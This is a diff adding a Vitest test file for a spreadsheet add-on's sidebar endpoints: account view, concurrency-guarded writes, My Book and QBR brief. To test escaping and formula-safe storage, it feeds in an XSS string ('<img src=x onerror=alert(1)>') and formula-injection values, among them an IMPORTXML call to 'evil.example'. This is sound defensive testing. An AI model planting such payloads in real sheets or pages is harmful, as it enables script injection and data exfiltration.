@@ -1,0 +1,432 @@
+// The sidebar endpoints through the built bundle: one-call account view, guarded writes, formula-safe text, my book, QBR brief.
+import { beforeEach, describe, expect, it } from 'vitest';
+import { generateBook } from '../../local/generateBook';
+import type { Runtime } from '../../local/runtime/index';
+import { dateOfDay, dayFromIso } from '../../src/core/dates';
+import type {
+  AccountView,
+  AccountViewResponse,
+  MyBookView,
+  QbrBriefResponse,
+  SelectionView,
+  SimpleResponse,
+  WriteResponse,
+} from '../../src/entry/sidebarTypes';
+import { DEFAULT_SEGMENTS, HEADERS, SHEET } from '../../src/sheets/layout';
+import { loadBundle } from './harness';
+
+const TZ = 'America/New_York';
+const NOW = new Date('2026-11-24T15:00:00Z');
+const date = (iso: string) => dateOfDay(dayFromIso(iso) as number, TZ);
+
+const MAYA = 'maya@acme.example';
+const JONAS = 'jonas@acme.example';
+const LEAD = 'lead@acme.example';
+const HOSTILE = '<img src=x onerror=alert(1)>';
+
+function accountRow(id: string, name: string, owner: string, segment = 'Enterprise'): unknown[] {
+  return [
+    id,
+    name,
+    segment,
+    owner,
+    date('2026-06-01'),
+    date('2027-01-15'),
+    'Month-end close takes 9 days',
+    'Reconciliation the controller trusts',
+    'Cut month-end close from 9 to 5 days',
+    'Close days',
+    9,
+    5,
+    'Dana Li',
+    'Executive sponsor',
+    'Open',
+  ];
+}
+
+function book(): Record<string, unknown[][]> {
+  return {
+    [SHEET.segments]: [[...HEADERS.segments], ...DEFAULT_SEGMENTS.map((s) => [...s])],
+    [SHEET.accounts]: [
+      [...HEADERS.accounts],
+      accountRow('A-1', 'Acme Freight', MAYA),
+      accountRow('A-2', HOSTILE, MAYA),
+      ['A-3', 'Blue Rail', 'SMB', JONAS, date('2026-10-01'), '', '', '', '', '', '', '', '', '', 'Open'],
+    ],
+    [SHEET.usage]: [
+      [...HEADERS.usage],
+      [date('2026-11-02'), 'A-1', 12, 40],
+      [date('2026-11-09'), 'A-1', 12, 40],
+      [date('2026-11-16'), 'A-1', 11, 35],
+      [date('2026-11-23'), 'A-1', 12, 41],
+    ],
+    [SHEET.results]: [
+      [...HEADERS.results],
+      [
+        date('2026-10-01'),
+        'A-1',
+        7,
+        'Yes',
+        'Dana Li',
+        'Executive sponsor',
+        'Close is two days shorter',
+        'Deck',
+        MAYA,
+      ],
+      [date('2026-11-01'), 'A-2', 8, 'No', '', '', '', '', MAYA],
+    ],
+    [SHEET.checks]: [[...HEADERS.checks], [date('2026-09-01'), 'A-1', '90-day', 'Yes', 'named it', MAYA]],
+    [SHEET.history]: [[...HEADERS.history], [date('2026-08-09'), 'A-1', 2, 'Yellow']],
+  };
+}
+
+let rt: Runtime;
+beforeEach(() => {
+  rt = loadBundle({ now: NOW, timeZone: TZ, user: MAYA, sheets: book() });
+});
+
+function view(row?: number): AccountView {
+  const v =
+    row === undefined
+      ? rt.call<AccountViewResponse>('getAccountView')
+      : rt.call<AccountViewResponse>('getAccountView', row);
+  if (v.empty) throw new Error(`empty view: ${v.message}`);
+  return v;
+}
+
+function chainPayload(v: AccountView, fields: Partial<Record<string, unknown>> = {}) {
+  const a = v.account;
+  return {
+    row: v.row,
+    version: v.version,
+    fields: {
+      businessPain: a.businessPain,
+      solutionValue: a.solutionValue,
+      namedResult: a.namedResult,
+      metric: a.metric,
+      baseline: a.baseline,
+      target: a.target,
+      validator: a.validator,
+      validatorRole: a.validatorRole ?? '',
+      ...fields,
+    },
+  };
+}
+
+describe('getAccountView', () => {
+  it('follows the selected Accounts row, with one server call and one getValues per sheet', () => {
+    rt.setActiveCell(SHEET.accounts, 2, 3);
+    rt.calls.reset();
+    const v = view();
+    const calls = rt.calls.byMethod();
+    // Segments, Accounts, Usage, Results, Checks, Ladder history: six sheets, one read each, nothing per row.
+    expect(calls['Range.getValues']).toBeLessThanOrEqual(6);
+    expect(calls['Sheet.getDataRange'] ?? 0).toBeLessThanOrEqual(6);
+    expect(rt.calls.count('Range.getValue')).toBe(0);
+    expect(rt.calls.count('Range.getFormulas')).toBe(0);
+    expect(v.row).toBe(2);
+    expect(v.account).toMatchObject({
+      id: 'A-1',
+      name: 'Acme Freight',
+      startDate: '2026-06-01',
+      baseline: 9,
+    });
+    expect(v.rungName).toBe('Result');
+    expect(v.evidence.map((e) => [e.name, e.holds])).toEqual([
+      ['Activity', true],
+      ['Adoption', true],
+      ['Outcome', true],
+      ['Result', true],
+    ]);
+    expect(v.results[0]).toMatchObject({ date: '2026-10-01', progressPercent: 50, counts: true });
+    expect(v.checks[0]).toMatchObject({ date: '2026-09-01', kind: '90-day', resultNamed: true });
+    expect(v.movement.text).toMatch(/^on Result/);
+    expect(v.sheetGid).toBe(rt.spreadsheet.sheetId(SHEET.accounts));
+    expect(JSON.parse(JSON.stringify(v))).toEqual(v);
+  });
+
+  it('reads each sheet once however large the book is', () => {
+    const large = loadBundle({
+      now: NOW,
+      timeZone: TZ,
+      user: MAYA,
+      sheets: generateBook({ accounts: 600, weeks: 52, seed: 7, today: '2026-11-24' }),
+    });
+    large.setActiveCell(SHEET.accounts, 300);
+    large.calls.reset();
+    const started = performance.now();
+    const v = large.call<AccountViewResponse>('getAccountView');
+    const elapsed = performance.now() - started;
+    expect(v.empty).toBe(false);
+    expect(large.calls.count('Range.getValues')).toBeLessThanOrEqual(6);
+    expect(large.calls.count('Range.getValue')).toBe(0);
+    expect(large.calls.count('Sheet.getRange')).toBe(0);
+    expect(elapsed).toBeLessThan(5_000);
+  });
+
+  it('says what to do when the selection is not an account', () => {
+    rt.setActiveCell(SHEET.usage, 3);
+    expect(rt.call<AccountViewResponse>('getAccountView')).toMatchObject({ empty: true });
+    rt.setActiveCell(SHEET.accounts, 1);
+    expect(rt.call<AccountViewResponse>('getAccountView')).toMatchObject({ empty: true });
+    expect(rt.call<AccountViewResponse>('getAccountView', 40)).toMatchObject({
+      empty: true,
+      message: expect.stringContaining('no account'),
+    });
+  });
+
+  it('names a missing required column instead of failing', () => {
+    const accounts = rt.values(SHEET.accounts).map((r) => [r[0], r[1], r[3]]);
+    rt.setValues(SHEET.accounts, accounts);
+    expect(rt.call<AccountViewResponse>('getAccountView', 2)).toEqual({
+      empty: true,
+      message: "Accounts: no column 'Segment'",
+    });
+  });
+
+  it('gives the movement in words from Ladder history', () => {
+    const v = view(4);
+    expect(v.account.id).toBe('A-3');
+    expect(v.triage).toBe(true);
+    expect(v.movement.text).toContain('no Ladder history yet');
+  });
+
+  it('returns the name as data; the dialog shows it escaped', () => {
+    expect(view(3).account.name).toBe(HOSTILE);
+    expect(rt.call<SimpleResponse>('openQbrBrief', 3)).toEqual({ ok: true });
+    const dialog = rt.ui.dialogs[0];
+    expect(dialog.title).toBe(`QBR brief — ${HOSTILE}`);
+    expect(dialog.html).not.toContain('<img');
+    expect(dialog.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
+  });
+});
+
+describe('saveChain', () => {
+  it('writes the chain in one setValues and answers with the new view', () => {
+    const v = view(2);
+    rt.calls.reset();
+    const res = rt.call<WriteResponse>(
+      'saveChain',
+      chainPayload(v, { namedResult: 'Close in 4 days', baseline: '10', target: 4 }),
+    );
+    expect(res.ok).toBe(true);
+    if (!res.ok) return;
+    const row = rt.values(SHEET.accounts)[1];
+    expect(row[8]).toBe('Close in 4 days');
+    expect(row[10]).toBe(10);
+    expect(row[11]).toBe(4);
+    expect(row[0]).toBe('A-1');
+    expect(res.view.account.namedResult).toBe('Close in 4 days');
+    expect(res.view.version).not.toBe(v.version);
+  });
+
+  it('stores text starting with = + - @ as text, never as a formula', () => {
+    const v = view(2);
+    const res = rt.call<WriteResponse>(
+      'saveChain',
+      chainPayload(v, {
+        businessPain: '=IMPORTXML("https://evil.example","//a")',
+        solutionValue: '+15% throughput',
+        namedResult: '-3 days to close',
+        validator: '@dana',
+      }),
+    );
+    expect(res.ok).toBe(true);
+    const formulas = rt.spreadsheet.formulas(SHEET.accounts)[1];
+    expect(formulas.filter((f) => f !== '')).toEqual([]);
+    const row = rt.values(SHEET.accounts)[1];
+    expect(row[6]).toBe('=IMPORTXML("https://evil.example","//a")');
+    expect(row[7]).toBe('+15% throughput');
+    expect(row[8]).toBe('-3 days to close');
+    expect(row[12]).toBe('@dana');
+    // Saving again with the fresh token works: the token matches what the sheet now holds.
+    if (!res.ok) return;
+    expect(rt.call<WriteResponse>('saveChain', chainPayload(res.view)).ok).toBe(true);
+  });
+
+  it('refuses a save when the row changed since it was read, and loses nothing', () => {
+    const v = view(2);
+    const edited = rt.values(SHEET.accounts);
+    edited[1][6] = 'Someone else rewrote the pain: close takes 11 days';
+    rt.setValues(SHEET.accounts, edited);
+    rt.calls.reset();
+    const res = rt.call<WriteResponse>('saveChain', chainPayload(v, { businessPain: 'My version' }));
+    expect(res).toMatchObject({ ok: false, stale: true });
+    if (res.ok) return;
+    expect(res.message).toContain('changed since you opened it');
+    expect(res.message).toContain('Your input is kept');
+    expect(rt.calls.count('Range.setValues')).toBe(0);
+    expect(rt.values(SHEET.accounts)[1][6]).toBe('Someone else rewrote the pain: close takes 11 days');
+  });
+
+  it('refuses while another save holds the document lock', () => {
+    const v = view(2);
+    const release = rt.locks.holdDocumentLock();
+    const res = rt.call<WriteResponse>('saveChain', chainPayload(v, { businessPain: 'x 5%' }));
+    release();
+    expect(res).toMatchObject({ ok: false });
+    expect(rt.values(SHEET.accounts)[1][6]).toBe('Month-end close takes 9 days');
+  });
+
+  it.each([
+    [{ baseline: 'nine' }, 'fields.baseline'],
+    [{ validatorRole: 'CEO' }, 'fields.validatorRole'],
+    [{ businessPain: 42 }, 'fields.businessPain'],
+  ])('refuses an invalid field %j', (fields, field) => {
+    const v = view(2);
+    const res = rt.call<WriteResponse>('saveChain', chainPayload(v, fields));
+    expect(res).toMatchObject({ ok: false, field });
+    expect(rt.values(SHEET.accounts)[1]).toEqual(book()[SHEET.accounts][1].map((c) => c));
+  });
+});
+
+describe('logResult and recordCheck', () => {
+  it('appends one Results row with one setValues', () => {
+    const v = view(3);
+    rt.calls.reset();
+    const res = rt.call<WriteResponse>('logResult', {
+      row: v.row,
+      version: v.version,
+      date: '2026-11-20',
+      value: '6',
+      attributed: true,
+      validatedBy: 'Dana Li',
+      validatorRole: 'Executive sponsor',
+      customerWords: '=HYPERLINK("x") we close in 6 days now',
+      evidence: 'Controller email',
+    });
+    expect(res.ok).toBe(true);
+    expect(rt.calls.count('Range.setValues')).toBe(1);
+    const results = rt.values(SHEET.results);
+    expect(results).toHaveLength(4);
+    const last = results[3];
+    expect((last[0] as Date).getTime()).toBe(date('2026-11-20').getTime());
+    expect(last.slice(1)).toEqual([
+      'A-2',
+      6,
+      'Yes',
+      'Dana Li',
+      'Executive sponsor',
+      '=HYPERLINK("x") we close in 6 days now',
+      'Controller email',
+      MAYA,
+    ]);
+    expect(rt.spreadsheet.formulas(SHEET.results)[3].filter((f) => f !== '')).toEqual([]);
+    if (res.ok) expect(res.view.results[0]).toMatchObject({ date: '2026-11-20', value: 6, counts: true });
+  });
+
+  it('appends one Checks row with one setValues', () => {
+    const v = view(4);
+    rt.calls.reset();
+    const res = rt.call<WriteResponse>('recordCheck', {
+      row: v.row,
+      version: v.version,
+      date: '2026-11-24',
+      kind: 'Kickoff',
+      resultNamed: null,
+      notes: '- agreed to name the result next week',
+    });
+    expect(res.ok).toBe(true);
+    expect(rt.calls.count('Range.setValues')).toBe(1);
+    const last = rt.values(SHEET.checks)[2];
+    expect(last.slice(1)).toEqual(['A-3', 'Kickoff', '', '- agreed to name the result next week', MAYA]);
+  });
+
+  it.each([
+    [{ value: 'forty' }, 'value'],
+    [{ value: null }, 'value'],
+    [{ date: '2026-02-30' }, 'date'],
+    [{ date: '2026-12-01' }, 'date'],
+    [{ date: '24/11/2026' }, 'date'],
+    [{ row: 1 }, 'row'],
+  ])('refuses %j and writes nothing', (patch, field) => {
+    const v = view(2);
+    const res = rt.call<WriteResponse>('logResult', {
+      row: v.row,
+      version: v.version,
+      date: '2026-11-20',
+      value: 6,
+      attributed: true,
+      validatedBy: '',
+      validatorRole: '',
+      customerWords: '',
+      evidence: '',
+      ...patch,
+    });
+    expect(res).toMatchObject({ ok: false, field });
+    expect(rt.values(SHEET.results)).toHaveLength(3);
+  });
+
+  it('refuses a check for a row that now holds another account', () => {
+    const v = view(2);
+    const rows = rt.values(SHEET.accounts);
+    rt.setValues(SHEET.accounts, [rows[0], rows[2], rows[1], rows[3]]);
+    const res = rt.call<WriteResponse>('recordCheck', {
+      row: 2,
+      version: v.version,
+      date: '2026-11-24',
+      kind: 'QBR',
+      resultNamed: true,
+      notes: '',
+    });
+    expect(res).toMatchObject({ ok: false, stale: true });
+    expect(rt.values(SHEET.checks)).toHaveLength(2);
+  });
+});
+
+describe('getMyBook', () => {
+  it("lists the CSM's own accounts with counts, triage and problems", () => {
+    const mine = rt.call<MyBookView>('getMyBook');
+    expect(mine.scope).toBe('mine');
+    expect(mine.accounts.map((a) => a.id)).toEqual(['A-1', 'A-2']);
+    expect(mine.rungCounts.Result).toBe(1);
+    expect(Object.values(mine.rungCounts).reduce((s, n) => s + n, 0)).toBe(2);
+  });
+
+  it('shows the leader every account', () => {
+    rt = loadBundle({ now: NOW, timeZone: TZ, user: LEAD, sheets: book() });
+    rt.properties.document.set('resultsLadder.settings', JSON.stringify({ leaderEmail: LEAD }));
+    const all = rt.call<MyBookView>('getMyBook');
+    expect(all.isLeader).toBe(true);
+    expect(all.accounts.map((a) => a.id)).toEqual(['A-1', 'A-2', 'A-3']);
+    expect(all.triage.map((a) => a.id)).toEqual(['A-3']);
+  });
+});
+
+describe('selectRow / getSelection', () => {
+  it('selects the row so the Account tab follows it', () => {
+    expect(rt.call<SimpleResponse>('selectRow', SHEET.accounts, 4)).toEqual({ ok: true });
+    expect(rt.call<SelectionView>('getSelection')).toEqual({
+      sheet: SHEET.accounts,
+      row: 4,
+      isAccounts: true,
+    });
+    expect(view().account.id).toBe('A-3');
+    expect(rt.call<SimpleResponse>('selectRow', 'Nope', 2)).toMatchObject({ ok: false });
+  });
+});
+
+describe('getQbrBrief', () => {
+  it('gives the chain, delivered results with the customer words, and risks', () => {
+    const brief = rt.call<QbrBriefResponse>('getQbrBrief', 2);
+    if ('empty' in brief) throw new Error(brief.message);
+    expect(brief.pain).toBe('Month-end close takes 9 days');
+    expect(brief.delivered).toEqual([
+      {
+        date: '2026-10-01',
+        value: 7,
+        progressPercent: 50,
+        customerWords: 'Close is two days shorter',
+        validatedBy: 'Dana Li',
+        validatorRole: 'Executive sponsor',
+        evidence: 'Deck',
+      },
+    ]);
+    const inFlight = rt.call<QbrBriefResponse>('getQbrBrief', 3);
+    if ('empty' in inFlight) throw new Error(inFlight.message);
+    expect(inFlight.inFlight[0]).toMatchObject({
+      progressPercent: 25,
+      pending: expect.stringContaining('not attributed'),
+    });
+  });
+});
